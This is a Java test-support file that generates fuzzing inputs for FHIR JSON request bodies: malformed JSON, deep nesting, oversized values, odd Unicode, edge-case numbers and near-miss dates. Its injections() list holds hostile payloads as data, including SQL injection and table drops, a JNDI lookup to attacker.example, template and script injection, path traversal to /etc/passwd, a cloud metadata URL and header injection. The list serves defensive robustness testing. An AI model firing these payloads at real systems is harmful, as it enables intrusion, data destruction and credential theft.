package city.onetem.platform.testing.fuzz;

import static city.onetem.platform.testing.fuzz.JsonMutator.quote;

import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.Combinators;
import net.jqwik.api.Tuple;

/** What a fuzzer puts into a body: each arbitrary gives JSON text (a value, or raw text for text edits). */
final class Fragments {

    private Fragments() {
    }

    /** A value of some JSON type, most often not the one the element takes. */
    static Arbitrary<String> otherTypes() {
        return Arbitraries.of("null", "true", "false", "0", "-1", "1.5", "\"\"", "\"x\"", "\" \"", "\"true\"", "\"1\"",
                "{}", "[]", "[null]", "[\"x\"]", "[[]]", "[{}]", "[1,2,3]", "{\"a\":1}", "{\"value\":\"x\"}",
                "[{\"url\":\"x\"}]", "{\"extension\":\"x\"}");
    }

    /** Arrays, objects or both nested hundreds to thousands deep. */
    static Arbitrary<String> deepNesting() {
        return Combinators.combine(Arbitraries.integers().between(100, 5000), Arbitraries.of("[", "{\"a\":", "[{\"a\":"))
                .as((depth, open) -> {
                    String close = switch (open) {
                        case "[" -> "]";
                        case "{\"a\":" -> "}";
                        default -> "}]";
                    };
                    return open.repeat(depth) + "1" + close.repeat(depth);
                });
    }

    /** SQL, template, JNDI, markup, path, header and format injections, as JSON strings. */
    static Arbitrary<String> injections() {
        return Arbitraries.of("' OR '1'='1", "'; drop table referral; --", "\"; drop table care_plan; --",
                "' UNION SELECT * FROM outbox_event --", "1; select pg_sleep(10)", "$1", "?", "${jndi:ldap://attacker.example/a}",
                "#{7*7}", "{{7*7}}", "${7*7}", "<script>alert(1)</script>", "<![CDATA[x]]>", "../../../../etc/passwd",
                "file:///etc/passwd", "http://169.254.169.254/latest/meta-data/", "javascript:alert(1)", "%00", "%s%s%s%n",
                "%24triage", "\r\nX-Injected: 1", "{\"$gt\":\"\"}", "\\", "\\u0000", "null", "undefined", "NaN", "*", "%", "_",
                "a|b", "http://x/fhir/ServiceRequest?_id=*", "#", "#missing", "urn:uuid:00000000-0000-0000-0000-000000000000",
                "ServiceRequest/../../admin", "W/\"1\"", "\u202Eevil", "\uFEFFbom").map(JsonMutator::quote);
    }

    /** Strings holding control characters: escaped (valid JSON, not valid FHIR) or raw (not valid JSON). */
    static Arbitrary<String> controlCharacters() {
        Arbitrary<Character> control = Arbitraries.chars().range('\u0000', '\u001f').with('\u007f');
        return Combinators.combine(control, Arbitraries.of(true, false)).as((c, escaped) -> escaped
                ? quote("before" + c + "after") : "\"before" + c + "after\"");
    }

    /** Any characters, surrogates and noncharacters included, and some that look like digits or space but are not. */
    static Arbitrary<String> unicode() {
        return Arbitraries.oneOf(
                Arbitraries.strings().all().ofMaxLength(40).map(JsonMutator::quote),
                Arbitraries.of("👩‍⚕️🏥", "مرحبا بالعالم", "Z̷͓̈a̸̦͛l̵g̶o̴", "\uFFFF\uFFFE", "\uD800", "\uDC00x", "𝕏𝔽ℍ𝕀ℝ",
                        "９４３４７６５９１９", "٩٤٣٤٧٦٥٩١٩", "943\u00A0476\u00A05919", "\u2028\u2029", "\u200B", "ǅǈ",
                        "İstanbul", "ß".repeat(20), "\u0301").map(JsonMutator::quote));
    }

    /** Strings, arrays and numbers far larger than anything real: some past the 2 MB body limit. */
    static Arbitrary<String> huge() {
        return Arbitraries.oneOf(
                Combinators.combine(Arbitraries.integers().between(50_000, 2_200_000), Arbitraries.of("x", "é", "😀", " "))
                        .as((length, unit) -> "\"" + unit.repeat(length / unit.length()) + "\""),
                Arbitraries.integers().between(10_000, 200_000).map(n -> "[" + "1,".repeat(n) + "1]"),
                Arbitraries.integers().between(1_000, 100_000).map(n -> "[" + "{},".repeat(n) + "{}]"),
                Arbitraries.integers().between(1_000, 100_000).map("9"::repeat));
    }

    /** Numbers at and past what parsers keep, and forms JSON does not allow. */
    static Arbitrary<String> numbers() {
        return Arbitraries.of("1e400", "-1e400", "1e-400", "-0", "0.0", "123456789012345678901234567890",
                "9223372036854775808", "-9223372036854775809", "2147483648", "4.9e-325", "1E2", "9434765919",
                "01", "+1", ".5", "1.", "NaN", "Infinity", "-Infinity", "0x10");
    }

    /** Values that are almost right: impossible dates, codes in the wrong case, NHS numbers that fail their check. */
    static Arbitrary<String> nearMisses() {
        return Arbitraries.of("2026-02-30", "0000-01-01", "9999-12-31T23:59:60+14:00", "2026-13-01", "-2026-01-01",
                "2026", "2026-11", "2026-11-30T25:00:00Z", "2026-11-30T10:00:00", "1e9", "ACTIVE", " active", "active ",
                "9434765918", "943 476 5919", "0000000000", "99999999999999999999", "Patient/1", "urn:uuid:x",
                "https://fhir.nhs.uk/Id/nhs-number", "W/\"999999999999\"").map(JsonMutator::quote);
    }

    /** FHIR's form of a primitive given only as extensions (data absent), and shapes that are not quite it. */
    static Arbitrary<String> primitiveExtensions() {
        return Arbitraries.of(
                "{\"extension\":[{\"url\":\"http://hl7.org/fhir/StructureDefinition/data-absent-reason\",\"valueCode\":\"unknown\"}]}",
                "{\"id\":\"x1\"}", "{}", "{\"extension\":[]}", "[{\"id\":\"x1\"}]", "\"x\"");
    }

    static Arbitrary<String> resourceTypes() {
        return Arbitraries.frequencyOf(
                Tuple.of(4, Arbitraries.of("Patient", "OperationOutcome", "Bundle", "Parameters", "ServiceRequest",
                        "CarePlan", "Task", "Goal", "CareTeam", "QuestionnaireResponse", "serviceRequest", "", "Foo",
                        "Resource", "DomainResource").map(JsonMutator::quote)),
                Tuple.of(1, Arbitraries.of("null", "1", "[\"Patient\"]", "{}")));
    }

    static Arbitrary<String> memberNames() {
        return Arbitraries.of("urgency", "resourceType", "_status", "status", "extension", "modifierExtension",
                "contained", "id", "meta", "__proto__", "constructor", "", " ", "fhir_comments", "text", "implicitRules",
                "language", "_id", "value", "url", "valueString", "reference", "identifier");
    }

    /** Text that breaks JSON where it is put. */
    static Arbitrary<String> strayText() {
        return Arbitraries.of(",", "}", "]", "{", "[", "\"", ":", "\\", "/* comment */", "// comment\n", "'", "NaN",
                "\uFEFF", "\u0000", "\u001f", "\"\":", "}{", "💥", ",,", "\"a\"");
    }

    /** Whole bodies that are not one FHIR resource in JSON. */
    static Arbitrary<String> notJson() {
        return Arbitraries.of("", " ", "\n", "null", "true", "0", "[]", "{}", "\"ServiceRequest\"",
                "<ServiceRequest xmlns=\"http://hl7.org/fhir\"/>", "resourceType=ServiceRequest", "{\"resourceType\":",
                "[".repeat(10_000), "{\"a\":".repeat(10_000), "{\"resourceType\":\"X\"}", "\uFEFF{}",
                "[{\"resourceType\":\"ServiceRequest\"}]", "{\"resourceType\":\"Parameters\",\"parameter\":[{}]}");
    }
}
